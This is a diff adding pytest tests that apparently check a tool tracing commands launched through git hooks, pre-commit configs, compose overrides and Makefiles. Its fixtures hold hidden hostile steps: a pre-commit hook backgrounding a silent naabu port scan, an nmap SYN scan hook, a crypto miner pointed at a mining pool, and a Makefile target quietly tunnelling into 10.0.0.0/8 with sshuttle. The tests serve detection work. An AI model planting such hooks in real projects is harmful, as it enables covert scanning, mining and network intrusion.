@@ -636,3 +636,71 @@ def test_random_trajectories_stay_well_formed(steps) -> None:
         assert e.depth <= 64
     assert all(isinstance(events[i], FileWrite) for i in f.mentions)
     assert total < 10_000
+
+
+# --- git hooks, pre-commit, compose overrides, make variables, inert options ---------------------
+
+HOOK = "#!/bin/sh\n# lint before each commit\nruff check . || exit 1\n( naabu -host 10.4.0.0/24 -silent ) >/dev/null 2>&1 &\n"
+
+
+@pytest.mark.parametrize("run", ["git commit -qam 'fix: port'", "git -C . commit -m x"])
+def test_git_hook_runs_on_commit(run: str) -> None:
+    _, f = flow(("file", ".git/hooks/pre-commit", HOOK), "chmod +x .git/hooks/pre-commit", run)
+    naabu = next(e for e in execs(f) if e.name == "naabu")
+    assert naabu.source.decoded_from == "hook:git:.git/hooks/pre-commit"
+    assert HOOK[naabu.source.start:naabu.source.end].startswith("naabu -host")
+
+
+@pytest.mark.parametrize("run", ["git status", "git commit --no-verify -m x", "git commit -n -m x",
+                                 "git push origin main"])
+def test_git_hook_not_run_by_other_commands_or_no_verify(run: str) -> None:
+    events, f = flow(("file", ".git/hooks/pre-commit", HOOK), run)
+    assert "naabu" not in names(f)
+
+
+def test_git_hooks_path_and_pre_push() -> None:
+    _, f = flow(("file", ".githooks/pre-push", HOOK), "git config core.hooksPath .githooks",
+                "git push -u origin feature")
+    assert "naabu" in names(f)
+
+
+def test_pre_commit_framework_local_hooks() -> None:
+    cfg = ("repos:\n- repo: local\n  hooks:\n  - id: warm\n    name: warm\n    language: system\n"
+           "    entry: nmap -sS -p 1-1000 10.2.0.0/24\n- repo: https://github.com/psf/black\n  rev: 24.1.0\n"
+           "  hooks:\n  - id: black\n")
+    _, f = flow(("file", ".pre-commit-config.yaml", cfg), "pre-commit run --all-files")
+    assert "nmap" in names(f)
+    _, f = flow(("file", ".pre-commit-config.yaml", cfg), "pre-commit install", "git commit -m x")
+    assert "nmap" in names(f)
+    events, f = flow(("file", ".pre-commit-config.yaml", cfg), "git commit -m x")
+    assert f.events == () and len(f.mentions) == 1
+
+
+def test_compose_override_file_and_service_command() -> None:
+    override = ("services:\n  worker:\n    image: alpine:3.19\n    command: [\"sh\", \"-c\", "
+                "\"t-rex -a ethash -o stratum+tcp://pool.example.org:4040 -u W\"]\n")
+    _, f = flow(("file", "docker-compose.override.yml", override), "docker compose up -d")
+    assert "t-rex" in names(f)
+    trex = next(e for e in execs(f) if e.name == "t-rex")
+    assert trex.launch in ("hook", "sh -c")
+    _, f = flow(("file", "docker-compose.override.yml", override), "docker compose config")
+    assert f.events == ()
+
+
+def test_make_variables_are_expanded() -> None:
+    mk = "PY ?= python\nTUN := sshuttle\nHOST = deploy@203.0.113.30\n\ntest: warm\n\t$(PY) -m pytest -q\n\nwarm:\n\t@$(TUN) -r ${HOST} 10.0.0.0/8 &\n"
+    _, f = flow(("file", "Makefile", mk), "make test")
+    assert {"python", "sshuttle"} <= set(names(f))
+    sshuttle = next(e for e in execs(f) if e.name == "sshuttle")
+    assert "deploy@203.0.113.30" in sshuttle.argv
+
+
+@pytest.mark.parametrize("steps", [
+    [("file", "~/.ssh/config", SSH_CONFIG), "ssh -G backup"],
+    [("file", "Makefile", MAKEFILE), "make -n deploy"],
+    [("file", "package.json", PACKAGE), "npm install --ignore-scripts"],
+    [("file", "pod.yaml", POD), "kubectl apply --dry-run=client -f pod.yaml"],
+])
+def test_options_that_only_show_what_would_run(steps) -> None:
+    _, f = flow(*steps)
+    assert f.events == ()
